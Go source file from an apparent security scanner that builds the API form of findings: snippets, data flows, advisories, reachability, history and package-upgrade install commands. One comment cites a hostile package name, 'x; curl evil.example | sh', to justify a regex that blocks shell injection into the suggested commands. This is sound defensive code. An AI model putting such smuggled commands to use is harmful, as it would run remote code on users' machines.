package findings

import (
	"cmp"
	"fmt"
	"regexp"
	"slices"
	"strconv"
	"strings"

	"merlon/internal/api/endpoint"
	"merlon/internal/finding"
	"merlon/internal/finding/ruletext"
	"merlon/internal/triage"
)

// This file makes the wire form of a finding.

// viewResult returns an element of a list. What it holds depends on the evidence
// that was reported, not on the analysis.
func viewResult(f *triage.Finding) resultBody {
	fields := viewFields(f)
	history := viewHistory(f)
	rule := viewRule(f.RuleID, &f.Rule, f.Report.Severity, f.Report.Language)
	out := resultBody{
		FlatResult: FlatResult{ResultFields: fields, HistoryItems: history, Vulnerability: rule},
		WrappedResult: WrappedResult{Base: resultBase{ResultFields: fields, HistoryItems: historyList{history},
			Vulnerability: rule}},
	}
	if s := f.Report.Secret; s != nil {
		out.Secret = viewSecret(s)
	}
	out.Live, out.Entry = viewLive(f.Report.Live, false), f.Report.Entry
	r := &f.Report
	out.Impact, out.SeverityTerms, out.Confidence, out.Also, out.Fix = r.Impact, r.Terms, r.Confidence, r.Also,
		viewFix(r)
	out.ClassType, out.Layer = triage.ClassOf(&f.Report), viewLayer(f.Report.Layer)
	if f.Report.Package == nil {
		return out
	}
	library := viewLibrary(f)
	out.ScaDetectedPackage, out.Package, out.Library = library, library, library
	fixes := viewFixes(f)
	out.AutofixRecords = &fixes
	if f.Rule.Advisory != nil {
		out.Metadata = viewAdvisory(f.RuleID, &f.Rule, f.Report.Package)
		out.Metadata.Severity = rule.Severity
		out.Metadata.HowToPrevent = howToUpgrade(f.Report.Package)
		out.Vulnerability, out.Base.Vulnerability = out.Metadata, nil
	}
	return out
}

// viewLive returns the evidence of a live scan; what is long only in detail.
func viewLive(l *finding.Live, whole bool) *finding.Live {
	if l == nil {
		return nil
	}
	// A copy: the caller's finding keeps its exchanges.
	out := *l
	out.Proof, out.Exchanges = endpoint.OrEmpty(l.Proof), endpoint.OrEmpty(l.Exchanges)
	if !whole {
		out.Exchanges, out.Curl = []finding.Exchange{}, ""
	}
	return &out
}

// viewLayer returns the image layer that a finding is in.
func viewLayer(l *finding.Layer) *layerBody {
	if l == nil {
		return nil
	}
	return &layerBody{Index: l.Index, Digest: l.Digest, Instruction: l.Instruction, IsBase: l.Base,
		IsDeleted: l.Deleted}
}

// viewFields returns the members that both copies of a finding have.
func viewFields(f *triage.Finding) ResultFields {
	r := &f.Report
	out := ResultFields{
		ID: f.ID, ProjectID: f.ProjectID, CreatedAt: f.CreatedAt, UpdateAt: f.UpdatedAt,
		CurrentState: f.Status, CurrentSeverity: r.Severity, CurrentPriority: f.Priority,
		PriorityScore: (f.Score + 5) / 10, PriorityManual: f.Pinned, Message: viewMessage(r), Language: r.Language,
		Path:                r.Location.Path,
		VulnerableStartLine: r.Location.StartLine, VulnerableEndLine: r.Location.EndLine, Branch: f.Branch,
		ScannerType: r.Analysis, VulnerabilityType: r.Analysis, CodeSnippets: []snippetBody{},
		DataFlowItems: []flowBody{},
	}
	if f.CVSS > 0 {
		out.CVSSScore = &f.CVSS
	}
	// Only a confirmed exploit is worth a text in every list.
	if d := triage.ExplainPriority(f); d.Verdict == triage.ProvenVerdict {
		out.ContextualExplanation = &d.Reason
	}
	if s := r.Snippet; s != nil {
		out.CodeSnippets = append(out.CodeSnippets, snippetBody{
			ID:                  triage.Derived("snippet", string(f.ID)),
			VulnerableStartLine: r.Location.StartLine, VulnerableEndLine: r.Location.EndLine,
			// A snippet without lines, as of an empty file, ends where it starts.
			StartLine: s.StartLine, EndLine: s.StartLine + max(len(s.Lines)-1, 0), Code: viewCode(s),
			Language: r.Language,
		})
	}
	for i, step := range r.Steps {
		out.DataFlowItems = append(out.DataFlowItems, flowBody{
			ID: triage.Derived("step", string(f.ID), strconv.Itoa(i)), NameHighlight: step.Message,
			Path: step.Location.Path,
			Line: step.Location.StartLine, Language: r.Language, Code: viewCode(step.Snippet), Type: step.Kind,
			Order: i,
		})
	}
	return out
}

// maxPlaces bounds the further locations that a message names.
const maxPlaces = 3

// viewMessage returns the message, with the first further locations and the other rules that say
// it: lists have no field for them.
func viewMessage(r *finding.Finding) string {
	message := r.Message
	if len(r.Also) > 0 {
		var places []string
		for _, at := range r.Also[:min(len(r.Also), maxPlaces)] {
			place := at.Path
			if at.StartLine > 0 {
				place += ":" + strconv.Itoa(at.StartLine)
			}
			places = append(places, place)
		}
		message += " Also at " + strings.Join(places, ", ")
		if more := len(r.Also) - maxPlaces; more > 0 {
			message += fmt.Sprintf(" and %d more", more)
		}
		message += "."
	}
	if len(r.EquivalentRules) > 0 {
		message += " Also reported by: " + strings.Join(r.EquivalentRules, ", ") + "."
	}
	return message
}

// viewCode returns the snippet line by line.
func viewCode(s *finding.Snippet) []codeLine {
	out := []codeLine{}
	if s == nil {
		return out
	}
	for i, line := range s.Lines {
		out = append(out, codeLine{Line: s.StartLine + i, Content: line})
	}
	return out
}

// viewRule returns the rule with the severity of a finding, which may differ from that
// of the rule, and without code in other programming languages than the finding's.
func viewRule(id string, r *finding.Rule, severity finding.Severity, language string) *ruleBody {
	cwe := endpoint.OrEmpty(r.CWE)
	return &ruleBody{
		ID: id, RuleID: r.ID, CWE: cwe, CWEArray: cwe, Name: r.Name, ShortDescription: r.ShortDescription,
		Description:  ruletext.ForLanguage(r.Description, language),
		HowToPrevent: ruletext.ForLanguage(r.HowToPrevent, language),
		OWASPTop10:   endpoint.OrEmpty(r.OWASP), ASVS: r.ASVS, Severity: strings.ToUpper(string(severity)),
		Language:          r.Language,
		VulnerabilityType: r.Analysis, Link: r.Link,
	}
}

// viewLibrary returns the vulnerable package of a finding.
func viewLibrary(f *triage.Finding) *libraryBody {
	p := &f.Report.Package.Package
	return &libraryBody{
		ID: triage.PackageID(f.ProjectID, f.Branch, p), ProjectID: f.ProjectID, PackageName: p.Name,
		PackageVersion: p.Version,
		FileName:       p.Path, Ecosystem: p.Ecosystem, Path: endpoint.OrEmpty(p.Via), IsDev: p.Dev,
		IsTransitive: p.Scope == finding.Transitive,
		Reachability: viewReach(f.Report.Package.Reach),
	}
}

// reachWords are the verdicts by their names on the wire. The words on the wire are older
// than the verdicts and part of the contract.
var reachWords = map[finding.ReachVerdict]string{
	finding.Reachable: "used", finding.Imported: "potentially used", finding.NotFound: "unused",
	finding.UnknownReach: "unknown",
}

// viewReach returns whether the program uses the vulnerable code of the package.
func viewReach(r *finding.Reach) *reachBody {
	if r == nil {
		return nil
	}
	out := &reachBody{Verdict: reachWords[r.Verdict], Reason: r.Reason, Locations: []reachLocation{}}
	for _, s := range r.Steps {
		out.Locations = append(out.Locations, reachLocation{Path: s.Location.Path, Line: s.Location.StartLine,
			Text: s.Message})
	}
	return out
}

// viewAdvisory returns the advisory of a rule that has one; match may be nil.
func viewAdvisory(ruleID string, r *finding.Rule, match *finding.PackageMatch) *advisoryBody {
	a := r.Advisory
	out := &advisoryBody{
		ID: ruleID, Name: cmp.Or(a.Summary, a.ID), Description: cmp.Or(a.Summary, a.ID), HowToPrevent: noUpgrade,
		Severity: strings.ToUpper(string(r.Severity)),
		GHSAID:   a.GHSA, CVE: a.CVE, InternalID: a.ID, Summary: a.Summary, Details: a.Details,
		SeverityGH: strings.ToUpper(string(r.Severity)), SchemaVersion: a.SchemaVer, ModifiedAt: a.Modified,
		PublishedAt: a.Published,
		CWEs:        []advisoryCWE{}, Aliases: []advisoryAlias{}, References: []advisoryReference{},
		Severities: []advisorySeverity{},
		Packages:   []advisoryPackageBody{}, VulnerabilityType: r.Analysis, EPSS: a.EPSS, KEV: a.KEV,
	}
	// Derived IDs are stable, and need no column in the database.
	id := func(kind string, i int) string { return triage.Derived(kind, ruleID, strconv.Itoa(i)) }
	for i, c := range a.CWE {
		out.CWEs = append(out.CWEs, advisoryCWE{ID: id("cwe", i), CWEID: c})
	}
	for i, name := range a.Aliases {
		out.Aliases = append(out.Aliases, advisoryAlias{ID: id("alias", i), Alias: name})
	}
	for i, r := range a.References {
		out.References = append(out.References, advisoryReference{ID: id("reference", i), Type: r.Type, URL: r.URL})
	}
	for i, s := range a.Severities {
		out.Severities = append(out.Severities, advisorySeverity{ID: id("severity", i), Type: s.Type, Score: s.Score})
	}
	if match == nil {
		return out
	}
	// Of the versions that clear the advisory only one later than the present helps.
	out.Packages = []advisoryPackageBody{{
		ID: id("package", 0), Ecosystem: match.Package.Ecosystem, PackageName: match.Package.Name,
		Introduced: match.Introduced, Fixed: match.Upgrade, FixAvailable: match.Upgrade != "",
		FixedAll: match.UpgradeAll,
	}}
	return out
}

// noUpgrade is the remediation of an advisory of which nothing better is known.
const noUpgrade = "No fixed version is known. Remove or replace the package, or make sure that the vulnerable code " +
	"is not reachable."

// howToUpgrade says how the advisory is cleared.
func howToUpgrade(m *finding.PackageMatch) string {
	if m.Upgrade == "" {
		return noUpgrade
	}
	text := fmt.Sprintf("Upgrade %s from %s to %s.", m.Package.Name, m.Package.Version, m.Upgrade)
	if command := installCommand(&m.Package, m.Upgrade); command != "" {
		text += " " + command
	}
	return text
}

// viewFixes returns the upgrades that fix a finding.
func viewFixes(f *triage.Finding) []autofixBody {
	m := f.Report.Package
	if m.Upgrade == "" {
		return []autofixBody{}
	}
	name := f.Rule.ID
	if f.Rule.Advisory != nil {
		name = f.Rule.Advisory.ID
	}
	return []autofixBody{{
		CVEID: name, VulnerablePackage: m.Package.Name, VulnerableVersion: m.Package.Version,
		RecommendedProposedVersion: m.Upgrade, InstallCommand: installCommand(&m.Package, m.Upgrade),
		HasFixAvailable: true,
	}}
}

// installFormats are the commands that bring a direct dependency to a version:
// name, version.
var installFormats = map[string]string{
	// Ecosystem names are those of OSV. Maven and Gradle are missing: their versions are set in
	// build files, not by a command.
	"npm":       "npm install %s@%s",
	"PyPI":      "pip install %s==%s",
	"Go":        "go get %s@v%s",
	"crates.io": "cargo update -p %s --precise %s",
	"Packagist": "composer require %s:%s",
	"NuGet":     "dotnet add package %s --version %s",
}

// harmless matches what can stand in a shell command as one word. Names come from
// scanned files, and somebody may paste the command. A package named "x; curl evil.example |
// sh" would otherwise be an injection into the shell of whoever follows the advice. A
// leading "-" is refused too: it would be read as an option.
var harmless = regexp.MustCompile(`^[A-Za-z0-9@][A-Za-z0-9._/@+-]*$`)

// installCommand returns a command that clears an advisory, or "" where none is
// sure to.
func installCommand(p *finding.Package, version string) string {
	format, ok := installFormats[p.Ecosystem]
	// Go versions are stored with their v, which the format adds.
	version = strings.TrimPrefix(version, "v")
	if !ok || p.Scope != finding.Direct || !harmless.MatchString(p.Name) || !harmless.MatchString(version) {
		return ""
	}
	return fmt.Sprintf(format, p.Name, version)
}

// viewHistory returns the history with how it began.
func viewHistory(f *triage.Finding) []historyBody {
	// The first entry is made up here: a finding that nobody has touched has no stored history.
	out := []historyBody{{
		ID: triage.Derived("found", string(f.ID)), Type: triage.StatusChange, Value: string(triage.ToVerify),
		Reason: "Found by a scan",
		ScanID: string(f.FirstRun), Date: f.CreatedAt,
	}}
	for _, c := range f.History {
		h := historyBody{
			ID: c.ID, Type: c.Kind, Value: c.Value, Previous: c.Previous, Reason: c.Reason, ScanID: string(c.Run),
			Date: c.At, UserID: string(c.By),
		}
		if u := c.User; u != nil {
			h.User = &historyUser{ID: string(u.UserID), FirstName: u.FirstName, LastName: u.LastName, Email: u.Email,
				Picture: u.Picture}
		}
		out = append(out, h)
	}
	slices.SortStableFunc(out, func(a, b historyBody) int { return a.Date.Compare(b.Date) })
	return out
}
